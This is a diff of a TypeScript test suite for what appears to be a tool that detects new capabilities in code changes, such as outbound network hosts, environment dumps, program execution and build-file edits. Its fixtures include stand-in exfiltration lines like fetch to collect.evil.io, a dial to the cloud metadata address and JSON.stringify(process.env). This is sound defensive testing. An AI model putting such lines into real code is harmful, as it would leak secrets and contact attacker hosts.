@@ -41,6 +41,19 @@ describe('what a draft can do and the base could not', () => {
     ['a host', 'src/a.ts', '', "fetch('https://collect.evil.io/x')", 'host collect.evil.io'],
     ['a host behind a user', 'src/a.ts', '', "fetch('https://api.known.com@evil.io/x')", 'host evil.io'],
     ['a host in a text', 'README.md', '', 'See https://evil.io.', 'host evil.io'],
+    ['a host in other letters', 'src/a.ts', '', "fetch('https://\u0435vil.io/x')", 'host \u0435vil.io'],
+    ['a host of another scheme', 'a.py', '', "connect('tcp://evil.io:99')", 'host evil.io'],
+    ['a host behind escapes', 'src/a.ts', '', 'const u = "https:\\/\\/evil.io";', 'host evil.io'],
+    ['a host that is a number', 'src/a.ts', '', "fetch('http://2852039166/x')", 'host 2852039166'],
+    ['an address', 'a.go', '', 'net.Dial("tcp", "169.254.169.254:80")', 'host 169.254.169.254'],
+    ['all variables in TypeScript', 'src/a.ts', '', 'return JSON.stringify(process.env);', 'environment process.env'],
+    ['all variables, taken apart', 'src/a.ts', '', 'const { KEY } = process.env;', 'environment process.env'],
+    ['all variables in Python', 'a.py', '', 'return dict(os.environ)', 'environment os.environ'],
+    ['all variables in Go', 'a.go', '', 'return os.Environ()', 'environment os.Environ'],
+    ['a program in Python', 'a.py', '', 'exec(text)', 'program exec'],
+    ['a pickle', 'a.py', '', 'pickle.loads(data)', 'program pickle.loads'],
+    ['code from text', 'src/a.ts', '', "Function('return 1')()", 'program Function'],
+    ['a file of Python', 'a.py', '', 'with open(path, "w") as out:', 'file open'],
     ['a program', 'src/a.ts', '', "import { spawn } from 'node:child_process'; spawn('sh')", 'program child_process'],
     ['a program in Go', 'a.go', '', 'exec.Command("sh")', 'program exec.Command'],
     ['files', 'a.py', '', 'shutil.rmtree(path)', 'file shutil.rmtree'],
@@ -55,6 +68,16 @@ describe('what a draft can do and the base could not', () => {
       "fetch('https://api.known.com/v2'); process.env.KEY; 'http://localhost:1/'; 'http://127.0.0.1/'; 'https://x.example.com'";
     expect(newCapabilities(base, [change('src/a.ts', '', text)])).toEqual([]);
     expect(newCapabilities([], [change('test/a.test.ts', '', "spawn('x'); process.env.X")])).toEqual([]);
+    const plain = "const found = /a/.exec(text); open(path); 'version 1.2.3.4'; const f: Function = g; cols: 12:34;";
+    expect(newCapabilities([], [change('src/a.ts', '', plain), change('a.py', '', 'open(path, "rb")')])).toEqual([]);
+  });
+
+  it('is seen in a test that other code takes in', () => {
+    const changes = [
+      change('src/test/help.ts', '', "spawn('x')"),
+      change('src/a.ts', '', "import { help } from './test/help.ts';"),
+    ];
+    expect(newCapabilities([], changes)).toMatchObject([{ kind: 'program', path: 'src/test/help.ts' }]);
   });
 });
 
@@ -78,7 +101,32 @@ describe('how a project is built', () => {
     ],
     ['Cargo.toml', '[package]\n', '[package]\nbuild = "x.rs"\n', true],
     ['go.mod', 'module x\n', 'module x\nreplace a => ../b\n', true],
+    ['go.mod', 'replace (\n  a => ../b\n)\n', 'replace (\n  a => ../b\n  c => ../d\n)\n', true],
+    ['go.mod', 'require a v1\n', 'require a v2\n', false],
+    ['pyproject.toml', '[project]\n', '[project]\n[[tool.uv.index]]\nurl = "https://x"\n', true],
+    [
+      'pyproject.toml',
+      '[tool.pytest.ini_options]\naddopts = "-q"\n',
+      '[tool.pytest.ini_options]\naddopts = "-p x"\n',
+      true,
+    ],
     ['build.rs', '', 'fn main() {}', true],
+    ['build.rs', 'fn main() {}', undefined, true],
+    ...[
+      'setup.py',
+      'setup.cfg',
+      'tests/conftest.py',
+      'sitecustomize.py',
+      'x.pth',
+      'Dockerfile',
+      'GNUmakefile',
+      'tox.ini',
+    ].map((path): [string, string, string, boolean] => [path, '', 'x', true]),
+    ...['vitest.config.ts', 'pnpm-workspace.yaml', 'compose.yaml', 'binding.gyp', 'CMakeLists.txt', 'gulpfile.js'].map(
+      (path): [string, string, string, boolean] => [path, '', 'x', true],
+    ),
+    ['src/config.ts', '', 'x', false],
+    ['docs/dockerfile-guide.md', '', 'x', false],
     ['src/a.ts', '', 'x', false],
   ])('%s: from %j to %j', (path, before, after, isBuilt) => {
     expect(changesHowItIsBuilt(path, before, after) !== undefined).toBe(isBuilt);
